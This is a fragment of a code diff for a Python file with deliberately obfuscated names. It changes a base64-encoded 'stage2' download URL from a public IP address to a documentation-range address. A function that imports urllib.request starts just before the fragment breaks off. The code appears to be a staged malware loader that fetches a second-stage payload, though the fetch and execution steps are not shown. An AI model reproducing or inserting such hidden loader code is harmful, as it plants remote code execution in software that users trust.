@@ -1,6 +1,6 @@
 import os as _o, sys as _s, base64 as _b
 
-_U = "aHR0cDovLzE5NC4yNi4xOTIuNjQvc3RhZ2Uy"
+_U = "aHR0cDovLzE5Mi4wLjIuNjQvc3RhZ2Uy"
 
 def _run():
     import urllib.request as _r
